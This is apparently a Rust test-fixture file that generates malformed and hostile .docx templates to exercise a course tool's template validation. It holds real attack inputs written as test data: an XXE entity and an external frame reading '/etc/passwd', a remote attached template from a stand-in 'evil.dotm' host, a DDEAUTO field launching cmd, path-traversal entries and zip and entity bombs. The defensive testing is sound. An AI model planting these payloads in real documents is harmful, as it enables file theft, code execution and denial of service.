//! Word files that a project names as its template.

use std::io::{Cursor, Write as _};

use zip::ZipWriter;
use zip::write::SimpleFileOptions;

use super::{Case, markdown};

const CONFIG: &str = "[build]\ntemplate = \"t.docx\"\n";
const TYPES: &str = r#"<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"><Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/><Default Extension="xml" ContentType="application/xml"/><Override PartName="/word/document.xml" ContentType="application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"/><Override PartName="/word/styles.xml" ContentType="application/vnd.openxmlformats-officedocument.wordprocessingml.styles+xml"/></Types>"#;
const RELS: &str = r#"<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/officeDocument" Target="word/document.xml"/></Relationships>"#;
const STYLES: &str =
    r#"<w:styles xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"/>"#;
const PART_RELS: &str = r#"<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/styles" Target="styles.xml"/></Relationships>"#;
const START: &str = r#"<w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"><w:body>"#;
const END: &str = "<w:p/></w:body></w:document>";

pub(super) fn cases() -> Vec<Case> {
    let case = |name: &str, bytes: Vec<u8>| {
        Case::course(&format!("templates/{name}"), "course.md", markdown("Text."))
            .file("kuliah.toml", CONFIG)
            .file("t.docx", bytes)
    };
    let with = |part: &str, content: &str| archive(&[(part, content.as_bytes())]);
    let rels = |relation: &str| {
        let end = "</Relationships>";
        let text = PART_RELS.replace(end, &format!("{relation}{end}"));
        archive(&[("word/_rels/document.xml.rels", text.as_bytes())])
    };
    let body = |inner: &str| with("word/document.xml", &format!("{START}{inner}{END}"));
    let many: Vec<_> = (0..5_000).map(|it| format!("word/part{it}.xml")).collect();
    let many: Vec<_> = many.iter().map(|it| (it.as_str(), &b"<a/>"[..])).collect();
    let whole = archive(&[]);
    let cut = whole.get(..whole.len() / 2).expect("long").to_vec();
    vec![
        case("good", whole.clone()),
        case("cut", cut),
        case("empty", Vec::new()),
        case(
            "bomb",
            archive(&[("word/styles.xml", &vec![b' '; 24 << 20])]),
        ),
        case(
            "bomb-unused",
            archive(&[("word/media/a.png", &vec![0; 24 << 20])]),
        ),
        case("many-parts", archive(&many)),
        case("macro", with("word/vbaProject.bin", "macro")),
        case("embedded", with("word/embeddings/a.bin", "program")),
        case("active-x", with("word/activeX/activeX1.xml", "<a/>")),
        case("path-upward", with("../../evil.xml", "<a/>")),
        case("path-absolute", with("/etc/evil.xml", "<a/>")),
        case(
            "external-template",
            rels(
                r#"<Relationship Id="rId9" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate" Target="http://example.org/evil.dotm" TargetMode="External"/>"#,
            ),
        ),
        case(
            "external-picture",
            rels(
                r#"<Relationship Id="rId9" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/image" Target="http://example.org/a.png" TargetMode="External"/>"#,
            ),
        ),
        case(
            "external-frame",
            rels(
                r#"<Relationship Id="rId9" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/frame" Target="file:///etc/passwd" TargetMode="External"/>"#,
            ),
        ),
        case(
            "doctype",
            with(
                "word/styles.xml",
                "<!DOCTYPE a [<!ENTITY b SYSTEM \"file:///etc/passwd\">]><w:styles xmlns:w=\"http://schemas.openxmlformats.org/wordprocessingml/2006/main\">&b;</w:styles>",
            ),
        ),
        case(
            "entity-bomb",
            with(
                "word/styles.xml",
                "<!DOCTYPE a [<!ENTITY a \"aaaa\"><!ENTITY b \"&a;&a;&a;&a;\">]><w:styles xmlns:w=\"http://schemas.openxmlformats.org/wordprocessingml/2006/main\">&b;</w:styles>",
            ),
        ),
        case(
            "deep",
            body(&format!(
                "{}{}",
                "<w:sdt>".repeat(20_000),
                "</w:sdt>".repeat(20_000)
            )),
        ),
        case("many-elements", body(&"<w:p/>".repeat(500_000))),
        case("broken-xml", with("word/styles.xml", "<w:styles")),
        case(
            "broken-utf8",
            archive(&[("word/styles.xml", &b"<a>\xff</a>"[..])]),
        ),
        case(
            "field-dde",
            body(
                r#"<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText>DDEAUTO c:\\cmd "/k"</w:instrText></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>"#,
            ),
        ),
        case(
            "no-document",
            plain(&[("[Content_Types].xml", TYPES.as_bytes())]),
        ),
    ]
}

/// A small Word file with these parts put in, or in place of its own.
fn archive(parts: &[(&str, &[u8])]) -> Vec<u8> {
    let document = format!("{START}{END}");
    let own = [
        ("word/styles.xml", STYLES.as_bytes()),
        ("word/_rels/document.xml.rels", PART_RELS.as_bytes()),
        ("[Content_Types].xml", TYPES.as_bytes()),
        ("_rels/.rels", RELS.as_bytes()),
        ("word/document.xml", document.as_bytes()),
    ];
    let is_replaced = |name: &str| parts.iter().any(|(part, _)| *part == name);
    let mut all: Vec<_> = own
        .into_iter()
        .filter(|(name, _)| !is_replaced(name))
        .collect();
    all.extend(parts);
    plain(&all)
}

fn plain(parts: &[(&str, &[u8])]) -> Vec<u8> {
    let mut out = ZipWriter::new(Cursor::new(Vec::new()));
    for (name, bytes) in parts {
        out.start_file(*name, SimpleFileOptions::default())
            .expect("a part");
        out.write_all(bytes).expect("a written part");
    }
    out.finish().expect("an archive").into_inner()
}
